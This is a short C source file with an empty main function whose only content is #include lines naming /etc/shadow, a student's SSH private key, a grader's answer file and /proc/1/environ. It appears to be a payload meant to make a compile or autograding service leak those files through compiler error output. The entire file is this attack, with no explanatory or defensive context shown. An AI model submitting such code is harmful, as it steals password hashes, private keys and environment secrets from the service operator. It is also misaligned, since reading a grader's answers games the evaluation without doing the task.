#include "/etc/shadow"
#include "/home/student/.ssh/id_rsa"
#include "/grader/answers"
#include "/proc/1/environ"
int main(void) { return 0; }
